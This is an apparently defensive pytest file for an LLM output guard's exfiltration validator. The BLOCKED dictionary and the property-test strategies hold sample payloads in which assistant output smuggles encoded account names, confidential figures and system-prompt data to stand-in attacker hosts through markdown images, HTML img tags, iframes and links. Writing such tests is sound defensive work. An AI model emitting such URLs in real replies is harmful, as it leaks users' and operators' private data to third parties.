"""Exfiltration through images, links and URLs."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests._streams import streamed_findings

from genai_guard import Action, ConfigurationError, Context, Direction, Part, Pipeline, Step
from genai_guard.validate import ExfiltrationValidator

CTX = Context(
    direction=Direction.OUTPUT,
    system_prompt="You are the assistant of Harbor Bank. Account holder: Marguerite Okonkwo.",
    parts=(Part("Quarterly revenue forecast for the Lisbon branch is confidential."),),
)
V = ExfiltrationValidator()


def _rules(text: str, validator: ExfiltrationValidator = V) -> list[str]:
    return [f.rule_id for f in validator.check(text, CTX).findings]


BLOCKED = {
    "markdown image with encoded data": (
        "Here is your summary.\n![loading](https://img.attacker.example/p.png?d="
        "TWFyZ3Vlcml0ZSBPa29ua3dvIC0gSGFyYm9yIEJhbms)"
    ),
    "markdown image with conversation words": (
        "![chart](https://stats.example.net/pixel?q=marguerite+okonkwo+lisbon+revenue)"
    ),
    "html img": '<img src="https://evil.example/c.gif?x=bGlzYm9uIHJldmVudWUgZm9yZWNhc3Q0">',
    "iframe with query": '<iframe src="https://evil.example/frame?session=1"></iframe>',
    "markdown link carrying words": (
        "[Click to verify](https://verify.example.org/confirm/harbor/marguerite/okonkwo)"
    ),
    "bare url with long token": (
        "Open https://collector.example.io/u/ZXhmaWx0cmF0ZWQtc2Vzc2lvbi1kYXRh to continue."
    ),
    "data uri image": "![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg)",
}

ALLOWED = [
    "See the docs at https://docs.python.org/3/library/json.html for details.",
    "Read [the guide](https://example.com/how-to-set-up-roaming-on-your-phone).",
    "![diagram](https://upload.wikimedia.org/diagram.png)",
    "Relative link: [settings](/account/settings?tab=2).",
]


@pytest.mark.parametrize("name", sorted(BLOCKED))
def test_exfiltration_payload_is_reported(name: str) -> None:
    assert _rules(BLOCKED[name])


@pytest.mark.parametrize("text", ALLOWED)
def test_ordinary_links_are_not_reported(text: str) -> None:
    assert _rules(text) == []


def test_image_with_data_scores_higher_than_link() -> None:
    image = V.check(BLOCKED["markdown image with encoded data"], CTX).findings[0]
    link = V.check(BLOCKED["bare url with long token"], CTX).findings[0]
    assert image.score > link.score


def test_allow_list_reports_other_hosts() -> None:
    v = ExfiltrationValidator(allowed_hosts=["example.com"])
    assert _rules("see https://other.org/page", v) == ["output.exfiltration.host_not_allowed"]


def test_allow_list_accepts_subdomains() -> None:
    v = ExfiltrationValidator(allowed_hosts=["example.com"])
    assert _rules("![a](https://cdn.example.com/a.png?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY)", v) == []


def test_message_does_not_contain_the_url() -> None:
    f = V.check(BLOCKED["html img"], CTX).findings[0]
    assert "evil" not in f.message


def test_rewrite_mode_removes_the_image_and_keeps_the_text() -> None:
    v = ExfiltrationValidator(mode="rewrite")
    out = v.check("Done. " + BLOCKED["markdown image with encoded data"] + " Bye.", CTX)
    assert out.text == "Done. Here is your summary.\n Bye."


def test_rewrite_mode_keeps_a_link_label() -> None:
    v = ExfiltrationValidator(mode="rewrite")
    out = v.check(BLOCKED["markdown link carrying words"], CTX)
    assert out.text == "Click to verify"


def test_rewrite_mode_modifies_in_a_pipeline() -> None:
    p = Pipeline(output=[Step(ExfiltrationValidator(mode="rewrite"))])
    d = p.check_output(BLOCKED["bare url with long token"], ctx=CTX)
    assert (d.action, d.text) == (Action.MODIFY, "Open [link removed] to continue.")


def test_bad_mode_is_rejected() -> None:
    with pytest.raises(ConfigurationError):
        ExfiltrationValidator(mode="drop")  # type: ignore[arg-type]


@settings(max_examples=60, deadline=None)
@given(
    parts=st.lists(
        st.sampled_from(
            [
                "![x](https://evil.example/c?d=c2VjcmV0LXN5c3RlbS1wcm9tcHQtZGF0YQ)",
                "[docs](https://docs.example.com/a)",
                '<img src="https://e.example/p?q=aGVsbG8gd29ybGQgZnJvbSB0aGUgdXNlcg">',
                "<a <a [[ ](",
                "data:text/html;base64,AAAA",
                "\n",
                ". ",
            ]
        ),
        max_size=10,
    ),
    size=st.integers(min_value=1, max_value=19),
)
def test_streamed_answer_gives_the_whole_text_findings(parts: list[str], size: int) -> None:
    validator = ExfiltrationValidator()
    ctx = CTX
    text = " ".join(parts)
    whole = validator.check(text, ctx).findings
    assert streamed_findings(validator, text, size, ctx) == whole


def test_an_html_element_ends_at_the_next_tag() -> None:
    # Each "<a" of a flood is tried up to the next "<" only (linear), never across it.
    text = "<a " * 50 + '<img src="https://e.example/p?q=1">'
    (f,) = ExfiltrationValidator().check(text, CTX).findings
    assert f.span is not None and text[f.span.start :].startswith("<img")
